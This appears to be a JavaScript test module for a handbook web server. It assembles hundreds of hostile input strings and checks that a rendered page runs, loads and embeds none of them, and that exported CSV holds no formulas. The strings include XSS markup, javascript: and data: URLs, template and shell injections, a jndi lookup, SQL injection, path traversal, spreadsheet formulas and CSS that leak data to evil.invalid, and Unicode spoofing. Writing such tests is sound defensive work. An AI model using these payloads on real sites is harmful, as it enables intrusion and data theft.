// Strings that attack a page that shows them, and what has to hold on a page that has shown them. A script that runs sets
// `window.__pwned` or opens a dialog, and what is loaded comes from `evil.invalid`; the kit fails on dialogs and loads.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';

/** The one script that stands in a page: the handbook's. */
const OWN = readFileSync(new URL('../../host/http/src/docs/script.js', import.meta.url), 'utf8');

const RUN = '__pwned=1';
const EVIL = 'http://evil.invalid';

/** What ends the text, attribute or element that a string may stand in. */
const ENDS = ['', '">', "'>", ' ', '</title>', '</textarea></select>', '</style>', '</script>', '-->', ']]>', '</svg></math>', '\n\n'];

const MARKUP = [
  `<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}//`,
  `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<video><source onerror=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}">`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<object data="javascript:${RUN}">`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`, `<a href="javascript:${RUN}">order</a>`,
  `<form action="javascript:${RUN}"><button autofocus>Go</button></form>`, `<button formaction="javascript:${RUN}" form=f>Go</button>`,
  `<img src=${EVIL}/i.png>`, `<link rel=stylesheet href=${EVIL}/s.css>`, `<meta http-equiv=refresh content="0;url=${EVIL}/">`,
  `<base href=${EVIL}/>`, `<script src=${EVIL}/s.js></script>`,
];

const TAGS = [
  `<ScRiPt>${RUN}</sCrIpT>`, `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`,
  `<script>alert\`1\`</script>`, `<script type=module>${RUN}</script>`, `<script src=data:,${RUN}></script>`,
  `<img/src=x/onerror=${RUN}>`, `<img src=x:x onerror\n=${RUN}>`, `<IMG SRC=x OnErRoR=alert(1)>`, `<image src=x onerror=${RUN}>`,
  `<img src=x onerror="&#95;_pwned=1">`, `<img """><script>${RUN}</script>">`, `<img srcset="${EVIL}/a 1x">`,
  `<picture><source srcset=${EVIL}/p><img></picture>`, `<audio src=x onerror=${RUN}>`, `<audio autoplay src=${EVIL}/a>`,
  `<video poster=${EVIL}/p.png>`, `<track src=${EVIL}/t>`, `<marquee onstart=${RUN}>x</marquee>`, `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`, `<keygen autofocus onfocus=${RUN}>`, `<p onmouseover=${RUN}>x</p>`,
  `<div style="animation:x" onanimationstart=${RUN}>x</div>`, `<x contenteditable autofocus onfocus=${RUN}>x`,
  `<x onclick=${RUN} tabindex=0>x`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math href="javascript:${RUN}">x</math>`,
  `<form id=x></form><button form=x formaction=javascript:${RUN}>x</button>`, `<isindex action=javascript:${RUN} type=image>`,
  `<object><param name=src value=javascript:${RUN}></object>`, `<applet code=${EVIL}/a>`, `<frameset onload=${RUN}>`,
  `<table background=${EVIL}/b>`, `<td background="javascript:${RUN}">`, `<body background=${EVIL}/b>`, `<bgsound src=${EVIL}/b>`,
  `<layer src=${EVIL}/l></layer>`, `<xml src=${EVIL}/x>`, `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[<script>${RUN}</script>]]>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`, `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<% ${RUN} %>`, `</p><p>x`, `</div></main></body></html><script>${RUN}</script>`, `<plaintext>`, `<xmp><script>${RUN}</script></xmp>`,
  `<title><img src=x onerror=${RUN}></title>`, `<dialog open onfocus=${RUN} autofocus tabindex=0>`, `<a ping=${EVIL}/p href=/>x</a>`,
  `<link rel=prefetch href=${EVIL}/p>`, `<link rel=icon href=${EVIL}/i>`, `<link rel=dns-prefetch href=//evil.invalid>`,
  `<portal src=${EVIL}/p>`, `<fencedframe></fencedframe>`, `<img name=getElementById><img id=cookie>`, `<a id=location href=${EVIL}>x</a>`,
];

const ATTRIBUTES = ['"', "'", '`', '" ', "' ", '"/', ''].flatMap((quote) => [
  `${quote} onmouseover=${RUN} x=`, `${quote} autofocus onfocus=${RUN} x=`, `${quote} style=background:url(${EVIL}/a) x=`,
  `${quote}onload=${RUN} `, `${quote} formaction=javascript:${RUN} `, `${quote} href=javascript:${RUN} `, `${quote} id=location `,
]);

const SCRIPT_URLS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\tjavascript:${RUN}`, `\njavascript:${RUN}`, `java\tscript:${RUN}`,
  `java\nscript:${RUN}`, `java\r\nscript:${RUN}`, `\u0001javascript:${RUN}`, `\u0000javascript:${RUN}`, `java\u0000script:${RUN}`,
  `javascript\t:${RUN}`, `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `javascript&#x3A;${RUN}`, `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61script:${RUN}`, `java&Tab;script:${RUN}`, `java&NewLine;script:${RUN}`, `javascript%3A${RUN}`, `javascript%253A${RUN}`,
  `javascript://%0a${RUN}`, `javascript://evil.invalid/%0d%0a${RUN}`, `javascript:/*--></title></style>*/${RUN}`, `javascript:"<img src=x>"`,
  `ｊavascript:${RUN}`, `javaſcript:${RUN}`, `javascript：${RUN}`, `vbscript:msgbox(1)`, `livescript:${RUN}`, `mocha:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=`, `DATA:text/html,x`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`, `data:;,x`, `blob:${EVIL}/x`, `file:///etc/passwd`,
  `filesystem:${EVIL}/x`, `view-source:${EVIL}`, `chrome://settings`, `about:blank`, `intent://evil.invalid#Intent;end`, `tel:+1900555`,
  `ms-word:ofe|u|${EVIL}/x.docx`, `feed:javascript:${RUN}`, `jar:${EVIL}!/x`, `ftp://evil.invalid/x`, `ws://evil.invalid/x`,
];

const FOREIGN_URLS = [
  '//evil.invalid/x', '\\\\evil.invalid\\x', '/\\evil.invalid/x', '\\/evil.invalid/x', '/\t/evil.invalid/x', '///evil.invalid/x', 'http:evil.invalid/x',
  'http:/evil.invalid/x', 'https:///evil.invalid', 'http://127.0.0.1@evil.invalid/', 'http://evil.invalid\\@127.0.0.1/', 'http://evil.invalid#@127.0.0.1/',
  'http://evil。invalid/', 'http://ⓔvil.invalid/', 'http://127.0.0.1.evil.invalid/', '..//evil.invalid/x', './/evil.invalid/x', '?next=//evil.invalid',
  '#"><img src=//evil.invalid/x>', `mailto:a@b.example?body=<script>${RUN}</script>`, 'mailto:a@b.example%0d%0aBcc:c@evil.invalid',
];

const SVG = [
  `<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} />`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${RUN}>`, `<svg><use href="${EVIL}/s.svg#x">`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x">`, `<svg><image href=${EVIL}/i.png>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`, `<svg><style>@import "${EVIL}/s.css"</style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`, `<svg><title><script>${RUN}</script></title></svg>`, `</text></svg><script>${RUN}</script>`,
  `</tspan><script>${RUN}</script>`, `M0 0L9 9"/><script>${RUN}</script>`, `url(${EVIL}/f#x)`, `<svg><feImage href=${EVIL}/f.png>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`, `<svg><discard onbegin=${RUN}>`, `<svg><handler type="text/javascript">${RUN}</handler>`,
];

const MARKDOWN = [
  ...SCRIPT_URLS.slice(0, 24).map((url) => `[order](${url})`), ...FOREIGN_URLS.slice(0, 6).map((url) => `![order](${url})`),
  `[x]: javascript:${RUN}\n[x]`, `[x][y]\n\n[y]: data:text/html,x "t"`, `![x][y]\n\n[y]: ${EVIL}/i.png`, `<javascript:${RUN}>`, `<${EVIL}/a>`,
  `[![x](${EVIL}/i.png)](javascript:${RUN})`, `[a](<javascript:${RUN}>)`, `[a](javascript:${RUN} "t")`, `[a](x "\\" onmouseover=${RUN} x=\\"")`,
  `[a]("onmouseover=${RUN} x=")`, `![a"onerror="${RUN}](x)`, `![a](x"onerror="${RUN})`, '`<script>' + RUN + '</script>`',
  '```html"onload="x\n<script>' + RUN + '</script>\n```', `~~~\n</code></pre><script>${RUN}</script>\n~~~`, `    </code><script>${RUN}</script>`,
  `# <img src=x onerror=${RUN}>`, `> <script>${RUN}</script>`, `| a |\n|---|\n| <img src=x onerror=${RUN}> |`, `* <svg onload=${RUN}>`, `[^1]: <script>${RUN}</script>\n[^1]`,
  `$$\\href{javascript:${RUN}}{x}$$`, `\\[<script>${RUN}</script>\\]`, `[ ](${EVIL}/blank)`, `**[1]**(javascript:${RUN})`, `[1](javascript:${RUN}) [2, 3]`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `\\<script\\>${RUN}\\</script\\>`, `www.evil.invalid`, `${EVIL}/auto"onmouseover="${RUN}`,
  `a@evil.invalid?subject=<b>`, `- [ ] <input onfocus=${RUN} autofocus>`, `<details><summary>x</summary>\n\n[a](javascript:${RUN})\n\n</details>`,
];

const TEMPLATES = [
  '{{7*7}}', '{{ constructor.constructor("__pwned=1")() }}', '${7*7}', '${__pwned=1}', '#{7*7}', '<%= 7*7 %>', '{% raw %}{{7*7}}{% endraw %}', '{{settings.api_key}}',
  '{{ input.__proto__ }}', '{{_self.env}}', '@(7*7)', '[[7*7]]', '*{7*7}', '{php}1{/php}', '$(id)', '`id`', '; id', '| id', '${jndi:ldap://evil.invalid/x}', '%{7*7}',
  '{{#with "s"}}{{/with}}', '{{this.constructor}}', 'v-html=__pwned=1', '{{$on.constructor("__pwned=1")()}}', ':[[${7*7}]]', '\\u003cscript\\u003e__pwned=1', '\\x3cscript\\x3e',
  "');__pwned=1;//", '");__pwned=1;//', '`);__pwned=1;//', "\\');__pwned=1;//", '};__pwned=1;{', '\u2028__pwned=1\u2029', '</script><!--<script>', '__proto__', 'constructor', 'toString',
  "' OR '1'='1", "'; DROP TABLE keys; --", '1; SELECT pg_sleep(9)', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', 'NaN', 'null', 'undefined', 'true', '[object Object]', '-1', '1e999', '0x1', 'CON',
];

const CONTROLS = [
  'order\u202Egnp.exe', '\u202E\u202Dreversed', '\u2066isolated', '\u2067right\u2069', '\u200Fright', '\u061Carabic', 'a\u200Bb\u200Cc\u200Dd', '\uFEFFmark', 'soft\u00ADhyphen', 'pa\u0443pal', 'аррӏе.com',
  'a\u0000b', '\u0000', 'a\u0000<script>__pwned=1</script>', '<scr\u0000ipt>__pwned=1</script>', 'bell\u0007', 'back\bspace', 'esc\u001B[31mred\u001B[0m', '\u001B]0;title\u0007', '\u001B]8;;http://evil.invalid\u0007x', 'del\u007F',
  'c1\u009Bx', 'line\u2028break', 'next\u0085line', 'form\ffeed', 'vertical\vtab', 'cr\ronly', 'a\r\nSet-Cookie: x=1', 'a\r\n\r\n<script>__pwned=1</script>', '\uD83D\uDE00'.repeat(20), '\uFFFD\uFFFE\uFFFF', '\uE000', '\u{E0041}\u{E0042}',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}', '\u0301'.repeat(40), `Z${'\u0300\u0489'.repeat(30)}`, 'ﷺ'.repeat(20), '\u3164', '\u00A0', '\u2800', 'ą̷̢̛', '𝕳𝖔𝖘𝖙', 'ＦＵＬＬ', 'ﬁﬂﬀ', 'ßẞıİſ', 'é e\u0301', 'Å A\u030A \u212B', '가 \u1100\u1161',
  '\uFF1Cscript\uFF1E__pwned=1\uFF1C/script\uFF1E', '\u2039script\u203A', '\u02BAonload=__pwned=1', '\uFF02onload=__pwned=1', '％3Cscript％3E', '<ſcript>__pwned=1</ſcript>', '<ſvg onload=__pwned=1>', '+ADw-script+AD4-__pwned=1', '¼script¾__pwned=1',
];

const FORMULAS = [
  "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid/?"&A1,"order")', '=IMPORTXML("http://evil.invalid","//a")', '=WEBSERVICE("http://evil.invalid")', '=IMAGE("http://evil.invalid/i")',
  '+1+1', '+cmd|x', '-1+1', '-2+3+cmd|x', '@SUM(1,1)', '@A1', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1"', '\'=1+1', ';=1+1', ',=1+1', '",=1+1,"', '"\n=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '%0A=1+1', '=DDE("cmd";"x";"y")', '|=1+1', '\uFEFF=1+1',
];

const STYLES = [
  `x:expression(${RUN})`, `background:url(javascript:${RUN})`, `background:url(${EVIL}/b)`, `@import "${EVIL}/s.css";`, `}*{display:none}`, `}body{background:url(${EVIL}/b)}`, `color:red;}</style><script>${RUN}</script>`,
  `#fff;background:url(${EVIL}/c)`, `red;position:fixed;inset:0`, `-moz-binding:url(${EVIL}/x#y)`, `behavior:url(${EVIL}/x)`, `\\3c script>${RUN}`, `/*</style><img src=x onerror=${RUN}>*/`, `font-family:'";}*{color:red}`, `--x:url(${EVIL}/v)`,
  `<style>*{background:url(${EVIL}/all)}</style>`, `<style>@font-face{font-family:x;src:url(${EVIL}/f)}*{font-family:x}</style>`, `<p style="background:url(${EVIL}/p)">x</p>`, `<p style="position:fixed;inset:0;z-index:9">x</p>`,
  `<style>input[value^="a"]{background:url(${EVIL}/leak)}</style>`,
];

const LONG = [
  'x'.repeat(90), 'x'.repeat(300), 'W'.repeat(2000), 'wide '.repeat(60), '<b>'.repeat(30), '&amp;'.repeat(20), '"'.repeat(80), '['.repeat(90), '[a](' .repeat(20), '> '.repeat(45), '*'.repeat(90), '`'.repeat(90), '\n'.repeat(80) + 'end', '漢'.repeat(90), 'ก'.repeat(90),
  'א'.repeat(90), '🏳️‍🌈'.repeat(12), '- '.repeat(45), '|'.repeat(90), 'http://evil.invalid/' + 'a'.repeat(70), '_'.repeat(90), '9'.repeat(90),
];

/** All of them, each once. */
export const HOSTILE = [...new Set([
  ...ENDS.flatMap((end) => MARKUP.map((markup) => end + markup)),
  ...TAGS, ...ATTRIBUTES, ...SCRIPT_URLS, ...FOREIGN_URLS, ...SVG, ...MARKDOWN, ...TEMPLATES, ...CONTROLS, ...FORMULAS, ...STYLES, ...LONG,
])];

/** Those that are URLs, which stand in places for URLs. */
export const URLS = [...SCRIPT_URLS, ...FOREIGN_URLS];

/** Fails when a page that has shown hostile strings has run, linked or embedded what they ask for. */
export async function harmless(page) {
  const found = await page.evaluate((script) => {
    const wrong = [];
    const tell = (one, why) => wrong.push(`${why}: ${one.outerHTML.slice(0, 200)}`);
    if (window.__pwned !== undefined) wrong.push('a script ran');
    const linked = ['http:', 'https:', 'mailto:'];
    const loads = ['src', 'srcset', 'poster', 'data', 'action', 'formaction', 'background', 'ping'];
    for (const one of document.querySelectorAll('*')) {
      for (const { name, value } of one.attributes) {
        if (name.startsWith('on')) tell(one, `an attribute ${name}`);
        // The empty target of a fragment is the page itself.
        const url = (() => { try { return new URL(value, document.baseURI); } catch { return null; } })();
        if ((name === 'href' || name === 'xlink:href') && one.localName !== 'link') {
          if (!url || !linked.includes(url.protocol)) tell(one, `a link to ${value}`);
        } else if (loads.includes(name) || (one.localName === 'link' && name === 'href')) {
          const own = url && (url.origin === location.origin || url.protocol === 'data:' && one.localName === 'img');
          if (!own) tell(one, `a load of ${value}`);
        }
      }
    }
    const embeds = 'iframe, frame, frameset, object, embed, applet, base, portal, meta[http-equiv=refresh i], script:not([src]):not([type="application/json"])';
    for (const one of document.querySelectorAll(embeds)) {
      if (one.textContent !== script) tell(one, 'an element of a string');
    }
    return wrong;
  }, OWN);
  assert.deepEqual(found.slice(0, 10), [], page.url());
}

/** Fails when a cell of a CSV is a formula to a spreadsheet. A number is none. */
export function plainCells(csv) {
  const cells = [...csv.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain);
  const formulas = cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));
  assert.deepEqual(formulas.slice(0, 10), []);
}
